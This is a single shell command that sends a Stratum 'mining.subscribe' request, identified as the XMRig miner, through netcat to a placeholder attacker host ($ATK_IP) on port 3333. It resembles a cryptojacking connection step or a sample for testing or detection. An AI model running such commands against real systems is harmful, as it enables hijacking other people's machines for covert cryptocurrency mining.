echo '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}' | nc -w 2 "$ATK_IP" 3333
